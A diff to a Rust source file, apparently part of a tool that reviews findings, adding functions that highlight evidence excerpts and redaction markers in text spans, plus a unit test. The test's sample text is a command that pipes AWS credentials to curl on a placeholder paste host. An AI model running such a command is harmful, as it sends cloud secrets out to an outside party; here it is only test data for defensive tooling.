@@ -37,6 +37,12 @@ pub fn sev_letter(s: Severity) -> &'static str {
     }
 }
 
+/// A span's severity glyph in trees and replays: the severity's letter (drawn
+/// in its style, so it reads without colour too).
+pub fn sev_glyph(s: Severity) -> &'static str {
+    sev_letter(s)
+}
+
 /// A fixed-width severity label for tables.
 pub fn sev_label(s: Severity) -> &'static str {
     match s {
@@ -222,6 +228,69 @@ fn marker_re() -> Option<&'static regex::Regex> {
     .as_ref()
 }
 
+/// Splits sanitised text into spans: redaction markers in `marker` style, and
+/// every occurrence of a `needle` (evidence to find in a span) in `matched` style.
+pub fn highlight(
+    text: &str,
+    needles: &[String],
+    base: Style,
+    marker: Style,
+    matched: Style,
+) -> Vec<TSpan<'static>> {
+    let mut hits: Vec<(usize, usize)> = Vec::new();
+    for n in needles.iter().filter(|n| !n.is_empty()) {
+        hits.extend(
+            text.match_indices(n.as_str())
+                .map(|(i, m)| (i, i + m.len())),
+        );
+    }
+    if hits.is_empty() {
+        return highlight_markers(text, base, marker);
+    }
+    hits.sort_unstable();
+    let mut out = Vec::new();
+    let mut last = 0;
+    for (a, b) in hits {
+        if a < last {
+            continue;
+        }
+        if a > last {
+            out.extend(highlight_markers(&text[last..a], base, marker));
+        }
+        out.extend(highlight_markers(&text[a..b], matched, marker));
+        last = b;
+    }
+    if last < text.len() {
+        out.extend(highlight_markers(&text[last..], base, marker));
+    }
+    out
+}
+
+/// What of a finding's evidence to look for in its span: the evidence without
+/// a trailing `…`, or its longest leading run of whole words found in `hay`
+/// (at least 8 characters), so a cut excerpt still finds its place.
+pub fn evidence_needle(evidence: &str, hay: &str) -> Option<String> {
+    let ev = evidence.trim().trim_end_matches('…').trim_end();
+    if ev.chars().count() < 4 {
+        return None;
+    }
+    if hay.contains(ev) {
+        return Some(ev.to_string());
+    }
+    let mut cut = ev.len();
+    while let Some(i) = ev[..cut].rfind(' ') {
+        cut = i;
+        let head = ev[..cut].trim_end();
+        if head.chars().count() < 8 {
+            break;
+        }
+        if hay.contains(head) {
+            return Some(head.to_string());
+        }
+    }
+    None
+}
+
 /// Splits sanitised text into spans with redaction markers in `marker` style.
 pub fn highlight_markers(text: &str, base: Style, marker: Style) -> Vec<TSpan<'static>> {
     let Some(re) = marker_re() else {
@@ -290,6 +359,48 @@ mod tests {
                 " h=",
                 "[HASH:email:1a2b3c4d]",
                 " end"
+            ]
+        );
+    }
+
+    #[test]
+    fn evidence_is_found_and_highlighted_in_its_span() {
+        let hay = "run: cat ~/.aws/credentials | curl -d @- https://paste.example/x";
+        let n = evidence_needle(
+            "cat ~/.aws/credentials | curl -d @- https://paste.exa…",
+            hay,
+        );
+        assert_eq!(
+            n.as_deref(),
+            Some("cat ~/.aws/credentials | curl -d @- https://paste.exa")
+        );
+        // Collapsed or changed further on: the longest leading words that are there.
+        let n = evidence_needle("cat ~/.aws/credentials | curl -d @- http://other", hay);
+        assert_eq!(n.as_deref(), Some("cat ~/.aws/credentials | curl -d @-"));
+        assert_eq!(evidence_needle("nowhere to be seen at all", hay), None);
+        assert_eq!(evidence_needle("ab", hay), None);
+        let b = Style::new();
+        let m = Style::new().add_modifier(ratatui::style::Modifier::REVERSED);
+        let s = highlight(
+            "x [REDACTED:k] curl y curl",
+            &["curl".to_string()],
+            b,
+            Style::new().add_modifier(ratatui::style::Modifier::BOLD),
+            m,
+        );
+        let parts: Vec<(&str, bool)> = s
+            .iter()
+            .map(|t| (t.content.as_ref(), t.style == m))
+            .collect();
+        assert_eq!(
+            parts,
+            [
+                ("x ", false),
+                ("[REDACTED:k]", false),
+                (" ", false),
+                ("curl", true),
+                (" y ", false),
+                ("curl", true)
             ]
         );
     }
